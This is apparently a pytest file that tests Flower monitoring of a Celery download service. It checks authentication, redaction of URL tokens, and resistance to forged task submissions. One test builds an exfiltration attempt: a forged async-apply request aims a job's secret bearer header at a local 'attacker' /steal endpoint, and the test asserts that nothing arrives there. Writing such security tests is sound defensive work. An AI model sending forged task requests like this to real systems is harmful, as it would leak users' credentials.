"""Flower against the test Redis: authentication required, workers and tasks visible, secrets redacted."""

from __future__ import annotations

import contextlib
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest
import requests

from bench.realparts.servers import free_port
from tests.conftest import ROOT, job_id_of, write_list

AUTH = ("admin", "flower-test-pw")
# As the shipped configurations start Flower (compose, k8s, systemd, README): each task's redacted URL and its
# result or failure reason in the task list (Flower's default shows only names and ids).
TASKS_COLUMNS = "--tasks_columns=name,uuid,state,args,result,received,runtime,worker"


@pytest.fixture
def flower(cluster, worker, tmp_path) -> Iterator[str]:
    port = free_port()
    env = dict(cluster.env, FLOWER_BASIC_AUTH=":".join(AUTH))
    log = open(tmp_path / "flower.log", "wb")  # noqa: SIM115 - closed below
    proc = subprocess.Popen([sys.executable, "-m", "celery", "-A", "tasks", "flower", "--address=127.0.0.1",
                             f"--port={port}", TASKS_COLUMNS], env=env, cwd=ROOT, stdout=log, stderr=subprocess.STDOUT,
                            start_new_session=True)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            with contextlib.suppress(requests.ConnectionError):
                requests.get(f"{base}/healthcheck", timeout=2)
                break
            time.sleep(0.2)
        # Workers send task events only while watched: Flower turns them on (every 5 s, the first time 5 s
        # after it starts). Tasks that run before then are not in Flower.
        while "enabled by remote" not in worker.log_text() and time.monotonic() < deadline + 15:
            time.sleep(0.2)
        yield base
    finally:
        proc.terminate()
        proc.wait(10)
        log.close()


def test_flower_requires_credentials_and_shows_workers_and_redacted_failures(cluster, flower, origin, tmp_path):
    assert requests.get(f"{flower}/api/workers", timeout=5).status_code == 401
    assert requests.get(f"{flower}/api/tasks", timeout=5).status_code == 401
    assert requests.get(f"{flower}/", timeout=5).status_code == 401
    # Left open by this Flower version (document it; bind Flower to localhost or a private network):
    assert requests.get(f"{flower}/healthcheck", timeout=5).status_code == 200

    origin.add("/fine.txt", b"fine")
    lines = [origin.url("/fine.txt"), origin.url("/nope.pdf") + "?token=flowersecret123"]
    result = cluster.producer(str(write_list(tmp_path / "urls.txt", lines)), "-d", "flower")
    job = job_id_of(result.stdout)
    assert result.returncode == 1

    deadline = time.monotonic() + 20
    tasks: dict = {}
    while time.monotonic() < deadline:
        tasks = requests.get(f"{flower}/api/tasks", auth=AUTH, timeout=5).json()
        if {f"{job}-0", f"{job}-1"} <= set(tasks) and tasks[f"{job}-1"].get("state") == "FAILURE":
            break
        time.sleep(0.5)
    assert tasks[f"{job}-0"]["state"] == "SUCCESS"
    failed = tasks[f"{job}-1"]
    assert failed["state"] == "FAILURE" and "404" in failed["exception"]
    assert "token=****" in failed["exception"]
    # Messages carry no argsrepr (a second copy of the URL): the worker shows the args, secrets already out.
    assert origin.url("/fine.txt") in tasks[f"{job}-0"]["args"] and "'index': 0" in tasks[f"{job}-0"]["kwargs"]
    assert "token=****" in failed["args"]
    assert "flowersecret123" not in str(tasks)

    page = requests.get(f"{flower}/tasks", auth=AUTH, timeout=5).text
    assert '<th data-column="args">' in page and '<th data-column="result">' in page

    workers = requests.get(f"{flower}/api/workers?refresh=1", auth=AUTH, timeout=20).json()
    assert any(name.startswith("w1@") for name in workers)


def test_a_flower_user_cannot_send_a_jobs_secrets_to_another_url(cluster, worker, flower, origin, tmp_path):
    """Flower's async-apply is a broker user's message: naming a job only points at one of its URLs."""
    from bench.realparts.origin import Origin

    origin.add("/private.txt", b"private")
    listing = write_list(tmp_path / "urls.txt", [origin.url("/private.txt")])
    result = cluster.producer(str(listing), "-d", "flower-forged", "-H", "Authorization: Bearer flower-s3cret")
    assert result.returncode == 0, result.stdout + result.stderr
    job = job_id_of(result.stdout)
    with Origin("127.0.0.1").start() as attacker:
        attacker.add("/steal", b"x")
        for index in (0, 1):
            body = {"args": [attacker.url("/steal"), "stolen.txt"],
                    "kwargs": {"job": job, "index": index, "opts": {"secret_headers": True}}}
            sent = requests.post(f"{flower}/api/task/async-apply/fleetfetch.download", json=body, auth=AUTH, timeout=10)
            assert sent.status_code == 200, sent.text
        deadline = time.monotonic() + 20
        while f"job {job} has no URL #1" not in worker.log_text() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert f"job {job} has no URL #1" in worker.log_text()
        time.sleep(0.5)
        assert attacker.requests == []
    assert len(origin.requests_for("/private.txt")) == 1
    assert not (cluster.downloads / "flower-forged" / "stolen.txt").exists()
